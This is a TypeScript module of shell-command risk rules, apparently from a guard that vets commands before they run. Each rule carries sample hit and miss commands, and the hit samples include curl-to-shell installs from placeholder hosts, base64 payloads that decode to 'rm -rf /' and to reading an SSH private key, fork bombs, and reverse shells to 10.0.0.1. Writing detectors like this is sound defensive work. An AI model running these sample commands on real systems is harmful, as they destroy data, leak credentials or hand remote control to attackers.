/**
 * Running code the user cannot see on the line: remote scripts piped into a shell (directly or
 * through a job runner), encoded commands, fork bombs, command history replayed, inline
 * interpreter code, reverse shells, and words hidden by look-alike Unicode spaces.
 *
 * @module
 */

import type { Invocation } from "../command.ts";
import {
  decoder,
  DOWNLOAD_SUBSTITUTION,
  readsCodeFromStdin,
  runsCode,
  upstream,
} from "../match.ts";
import { locateArg } from "../paths.ts";
import { DOWNLOADERS, INTERPRETERS, program, SHELLS, SOCKET_TOOLS } from "../programs.ts";
import { rules } from "../rule.ts";
import { hidesWordBreak } from "../../syntax/words.ts";

/** Shells and interpreters: what runs code piped into it. */
const CODE = [...SHELLS, ...INTERPRETERS];

/** Commands that run code from a file or a string: the shell builtins. */
const SOURCE = ["eval", "source", ".", "exec"];

function basename(p: string): string {
  return p.slice(p.lastIndexOf("/") + 1);
}

/** Names of the files a curl or wget command saves (its `-o` file, or the URL's last part). */
function downloadedFiles(c: Invocation): string[] {
  if (c.key !== "curl" && c.key !== "wget") return [];
  const out: string[] = [];
  const urls = c.args.filter((a) => /^(https?|ftp):\/\//.test(a));
  for (let i = 0; i < c.args.length; i++) {
    const a = c.args[i];
    if (c.key === "curl" && (a === "-o" || a === "--output")) {
      out.push(basename(c.args[i + 1] ?? ""));
    } else if (c.key === "wget" && (a === "-O" || a === "--output-document")) {
      out.push(basename(c.args[i + 1] ?? ""));
    }
  }
  const remoteName = c.key === "wget"
    ? !c.args.some((a) => a === "-O" || a.startsWith("--output-document"))
    : c.args.some((a) => a === "-O" || a === "--remote-name" || /^-[a-zA-Z]*O[a-zA-Z]*$/.test(a));
  if (remoteName) {
    for (const u of urls) out.push(basename(u.replace(/[?#].*$/, "").replace(/\/+$/, "")));
  }
  return out.filter((f) => f !== "" && f !== "-");
}

/** The command reads its code from stdin, and one of `from` feeds that stdin. */
function codeFrom(c: Invocation, from: (u: Invocation) => boolean): boolean {
  return readsCodeFromStdin(c) && upstream(c).some(from);
}

/**
 * `$(starship init zsh)`, `` `ssh-agent -s` ``, `$(brew shellenv)`: a program printing its own
 * shell set-up, the usual thing to `eval`.
 */
const SETUP =
  /^\s*(?:\S*\/)?(?:(?:ssh-agent|gpg-agent|keychain|dircolors|thefuck)\b|\S+(?:\s+[^\s;&|<>`$()]+)*?\s+(?:init|hook|env|shellenv|activate|completions?|alias|virtualenv-init|shell\.\w+)\b)[^;&|<>`$()]*$/;

/** Whether `eval`'s code is only substitutions of programs printing their shell set-up. */
function evalsSetup(args: readonly string[]): boolean {
  const code = args.join(" ");
  const subs = [...code.matchAll(/\$\(([^()]*)\)|`([^`]*)`/g)];
  return subs.length > 0 && subs.every((m) => SETUP.test(m[1] ?? m[2])) &&
    code.replace(/\$\(([^()]*)\)|`([^`]*)`/g, "").trim() === "";
}

/** A program chosen at run time: a variable, a substitution or a pattern in command position. */
const INDIRECT = /^[$=]|\$\(|`|[*?[]/;

/** A bash socket path: `/dev/tcp/HOST/PORT`, `/dev/udp/HOST/PORT`. */
const SOCKET_PATH = /^\/dev\/(tcp|udp)\//;

/** Whether `c` opens a bash socket (as a redirection, or a word the parser could not place). */
const opensSocket = (c: Invocation) =>
  c.redirects.some((x) => SOCKET_PATH.test(x.target)) || c.args.some((a) => SOCKET_PATH.test(a));

/** A shell, interpreter or run-time program reading from or writing to descriptor 3 or above. */
const fedFromDescriptor = (c: Invocation) =>
  (runsCode(c) || c.name.startsWith("$")) &&
  c.redirects.some((x) => /^[<>]&$/.test(x.op) && /^\d+$/.test(x.target) && Number(x.target) > 2);

/** A recursive flag, as most programs that delete, copy or change trees spell it. */
const RECURSIVE = /^(-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)$/;

/** A shell's `-c` code that is only a placeholder filled in at run time (`{}`, `$1`, `$@`). */
const PLACEHOLDER = /^(\{\}|\$\w+|\$\{\w+\}|\$@|\$\*|\$\d)$/;

export const codeRules = rules("code", [
  {
    id: "remote-to-shell",
    risk: "critical",
    reason: "runs a script downloaded from the network without showing it to you",
    on: [...CODE, ...SOURCE],
    group: "remote",
    evenDryRun: true,
    // `curl … | sh`, and what reaches a shell through a job runner (`curl … | sudo -s`,
    // `curl … | parallel`, `curl … | xargs sh -c`), which reads like a shell on the same stdin.
    match: (_, c) =>
      codeFrom(c, (u) => DOWNLOADERS.has(u.key)) ||
      ((runsCode(c) || SOURCE.includes(c.key)) &&
        c.args.some((a) => DOWNLOAD_SUBSTITUTION.test(a))),
    examples: {
      hit: [
        "curl -fsSL https://example.com/install.sh | sh",
        "wget -qO- https://x.io/i | sudo bash",
        "curl https://x.io/a.py | python3",
        'eval "$(curl -fsSL https://example.com/install.sh)"',
        "bash <(curl -s https://x.io/s.sh)",
        'sh -c "$(wget -O- https://x.io/s)"',
        "curl -s https://x.io/s.sh | sudo -s",
        "curl -s https://x.io/jobs.txt | parallel",
        "curl -s https://x.io/s.sh | xargs -0 sh -c",
        "curl -s https://x.io/s.sh | xargs -I{} bash -c '{}'",
        "curl -s https://x.io/s.sh | nohup bash",
      ],
      miss: [
        "curl -o install.sh https://example.com/install.sh",
        "curl https://x.io | jq .",
        "curl -s https://api.x.io/v1 | python3 -mjson.tool",
        "curl -s https://api.x.io/v1 | python -m json.tool",
        "curl -s https://x.io/list.txt | xargs -n1 echo",
      ],
    },
  },
  {
    id: "obfuscated",
    risk: "high",
    reason: "runs commands hidden by encoding (base64, hex, reversed text)",
    on: "*",
    group: "remote",
    evenDryRun: true,
    match: (_, c) =>
      codeFrom(c, (u) => decoder(u) !== undefined) || c.decoded === "name" ||
      (c.decoded === "args" && (SHELLS.has(c.key) || c.key === "eval")) ||
      // Decoding the line does not show (`$(base64 -d < payload)`).
      ((SHELLS.has(c.key) || c.key === "eval" || c.name.startsWith("$")) &&
        [c.name, ...c.args].some((a) =>
          // Two linear tests (one combined pattern backtracks badly on long words).
          /\b(base64\s+(-d|-D|--decode)|xxd\s+-r|rev)\b/.test(a) && /\$\(|`/.test(a)
        )),
    examples: {
      hit: [
        "echo cm0gLXJmIC8K | base64 -d | sh",
        'eval "$(echo cm0gLXJmIC8K | base64 --decode)"',
        "$(echo cm0gLXJmIC8K | base64 -d)",
        "echo / fr- mr | rev | bash",
        "base64 -d payload.b64 | sudo -s",
        'bash -c "$(printf %s Y2F0IH4vLnNzaC9pZF9yc2E= | base64 -d)"',
        'eval "$(base64 -d < payload.b64)"',
      ],
      miss: ["echo aGkK | base64 -d", "base64 -d key.b64 > key", 'echo "$(echo aGkK | base64 -d)"'],
    },
  },
  {
    id: "download-then-run",
    risk: "high",
    reason: "downloads a program and runs it straight away, unseen",
    on: "*",
    group: "remote",
    evenDryRun: true,
    matchLine: (line) => {
      const files = new Set<string>();
      for (const c of line.commands) for (const f of downloadedFiles(c)) files.add(f);
      if (files.size === 0) return false;
      return line.commands.some((c) =>
        files.has(c.name) ||
        ((runsCode(c) || c.key === "source" || c.key === ".") &&
          c.args.some((a) => files.has(basename(a))))
      );
    },
    examples: {
      hit: [
        "curl -o install.sh https://x.io/install.sh && bash install.sh",
        "wget https://x.io/setup.sh; chmod +x setup.sh; ./setup.sh",
        "curl -fsSLO https://x.io/get.py && python3 get.py",
        "wget https://x.io/agent && chmod +x agent && nohup ./agent &",
      ],
      miss: [
        "curl -o data.json https://x.io/data.json && jq . data.json",
        "wget https://x.io/a.tgz",
      ],
    },
  },
  {
    id: "history-to-shell",
    risk: "high",
    reason: "re-runs every command in your shell history",
    on: CODE,
    group: "remote",
    match: (_, c) => codeFrom(c, (u) => u.key === "history" || u.key === "fc"),
    examples: { hit: ["history | sh", "history | bash"], miss: ["history | grep ssh"] },
  },
  {
    id: "output-to-shell",
    risk: "moderate",
    reason: "runs commands produced by another program, which you cannot see here",
    on: CODE,
    group: "remote",
    match: (_, c) => {
      if (!readsCodeFromStdin(c) || c.stdin?.kind !== "commands") return false;
      // Literal text (`echo 'ls' | sh`) is parsed and rated on its own.
      return !c.stdin.from.every((s) =>
        (s.key === "echo" || s.key === "printf") && !s.args.some((a) => /\$\(|`/.test(a))
      );
    },
    examples: {
      hit: [
        "cat setup.sh | bash",
        "python3 gen.py | sh",
        "cat jobs.txt | parallel",
        "./gen-commands | xargs -L1 bash -c",
        "cat cmds.txt | sudo -i",
      ],
      miss: ["echo ls | sh", "cat x | grep y", "cat files.txt | parallel gzip"],
    },
  },
  {
    id: "dynamic-shell",
    risk: "moderate",
    reason: "runs shell code built at run time from input or variables",
    on: [...SHELLS, "eval"],
    group: "remote",
    match: (_, c) => {
      if (c.key === "eval") return c.args.some((a) => /\$|`/.test(a)) && !evalsSetup(c.args);
      const i = c.args.findIndex((a) => /^-[a-zA-Z]*c[a-zA-Z]*$/.test(a));
      if (i < 0) return c.args.length === 0 && c.via.includes("xargs");
      const code = c.args[i + 1];
      return code === undefined ? c.via.includes("xargs") : PLACEHOLDER.test(code.trim());
    },
    examples: {
      hit: [
        "echo ok | parallel bash -c {}",
        'eval "$CMD"',
        "xargs sh -c",
        "xargs -0 bash",
        'eval "$(./gen.py)"',
        'eval "$(tool init); $EXTRA"',
      ],
      miss: [
        "bash -c 'ls'",
        "eval ls",
        "echo ls | xargs sh -c",
        'eval "$(ssh-agent -s)"',
        'eval "$(starship init zsh)"',
        "eval `/opt/homebrew/bin/brew shellenv`",
      ],
    },
  },
  {
    id: "indirect-program",
    risk: "high",
    reason: "runs a program chosen at run time (a variable, a substitution or a pattern) with a " +
      "recursive flag on a home, the root or a system directory",
    on: INDIRECT,
    aspect: true,
    // `[` and `[[` are programs (tests), not patterns.
    match: (_, c, l) =>
      INDIRECT.test(c.name) && program(c.key) === undefined &&
      c.args.some((a) => RECURSIVE.test(a)) &&
      c.args.some((a) =>
        locateArg(a, c, l).some((t) => /^(root|windows-root|home|system)$/.test(t.place))
      ),
    examples: {
      hit: [
        "$CMD -rf /",
        '"$TOOL" -Rf "$HOME"',
        "${X} --recursive --force /home/alice",
        "$1 -fr ~/",
        "$(get_tool) -r /etc",
        "/usr/local/bin/?? -rf ~",
      ],
      miss: [
        "$EDITOR notes.txt",
        "$CC -o app main.c",
        "$CMD -rf ./build",
        "rsync -r ~ /backup",
        "[ -r / ] && echo readable",
        "[[ -r ~ ]]",
      ],
    },
  },
  {
    id: "fork-bomb",
    risk: "critical",
    reason: "a fork bomb: it multiplies processes until the machine freezes",
    on: [...INTERPRETERS],
    evenDryRun: true,
    matchLine: (line) =>
      line.functions.some((f) => f.spawns && f.calls.includes(f.name)) ||
      /(^|[\s;&|])([\w:.]+)\s*\(\)\s*\{[^}]*\2\s*\|\s*\2\s*&/.test(line.text),
    match: (r) =>
      r.args.some((a) =>
        /fork\s*while\s*fork|while\s*\(?\s*(1|true|True)\s*\)?\s*[:{;]?\s*(os\.)?fork\s*\(|for\s*\(\s*;\s*;\s*\)\s*\{?\s*fork\s*\(/
          .test(a)
      ),
    examples: {
      hit: [":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "perl -e 'fork while fork'"],
      miss: [":(){ echo hello; };:", "f() { f; }", "fork() { echo hi | cat; }"],
    },
  },
  {
    id: "reverse-shell",
    risk: "critical",
    reason: "opens a shell that someone on the network can control",
    on: "*",
    evenDryRun: true,
    match: (r, c, l) =>
      (SOCKET_TOOLS.has(c.key) &&
        r.args.some((a) => /^-[a-z]*[ec]$/.test(a) || /exec:|system:/i.test(a)) &&
        r.args.some((a) => /(^|\/)(ba|z|k|da)?sh\b|cmd\.exe|exec:/i.test(a))) ||
      // A bash socket (`/dev/tcp/host/port`) given to a shell, or opened on a descriptor that
      // a shell on the line reads its code from (`exec 5<>/dev/tcp/…; sh <&5 >&5`).
      (opensSocket(c) && (runsCode(c) || l.commands.some(fedFromDescriptor))) ||
      r.args.some((a) => /socket\.socket\(.*(connect|dup2)|pty\.spawn/.test(a)),
    examples: {
      hit: [
        "nc -l -p 4444 -e /bin/bash",
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "ncat -lvp 4444 -e /bin/sh",
        "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196",
        "exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | while read l; do $l 2>&5 >&5; done",
      ],
      miss: [
        "nc -zv host 443",
        "nc -l 8080",
        "exec 3<>/dev/tcp/example.com/80; echo -e 'GET / HTTP/1.0\\n' >&3; cat <&3",
      ],
    },
  },
  {
    id: "inline-system",
    risk: "moderate",
    reason: "inline interpreter code runs shell commands or deletes files",
    on: [...INTERPRETERS],
    match: (r) =>
      r.args.some((a) => /^-[a-zA-Z]*[ecrE]$/.test(a) || a === "--eval") &&
      /\b(os\.system|subprocess|system\s*\(|exec\s*\(|popen|shell_exec|passthru|child_process|execSync|spawn|shutil\.rmtree|os\.remove|os\.unlink|os\.rmdir|unlink\s*\(|rmtree|File\.delete|FileUtils\.rm|fs\.rm|rmSync|unlinkSync|do shell script)/
        .test(r.args.join(" ")),
    examples: {
      hit: [
        `perl -e 'system("id")'`,
        `python -c 'import shutil; shutil.rmtree("/tmp/demo")'`,
        `osascript -e 'do shell script "ls"'`,
      ],
      miss: ["python script.py", "python -c 'print(1)'"],
    },
  },
  {
    id: "execution-policy",
    risk: "moderate",
    reason: "lowers the PowerShell script execution policy",
    on: "set-executionpolicy",
    match: (r) => r.args.some((a) => /^(unrestricted|bypass)$/i.test(a)),
    examples: { hit: ["Set-ExecutionPolicy Unrestricted"], miss: ["Get-ExecutionPolicy"] },
  },
  {
    id: "hidden-space",
    risk: "moderate",
    reason: "look-alike Unicode spaces or invisible characters hide how the words really split",
    on: "*",
    evenDryRun: true,
    matchLine: (line) => hidesWordBreak(line.text),
    examples: {
      hit: [
        "rm\u00a0-rf\u00a0/tmp/x",
        "ls\u2003-la",
        "git\u3000status",
        "echo hi;\u200bls",
        "cat\u202fnotes.txt",
      ],
      miss: ["ls -la", "echo 'a\u00a0b'", 'printf "%s\u2003" x', "sed 's/\u00a0/ /g' in.txt"],
    },
  },
]);
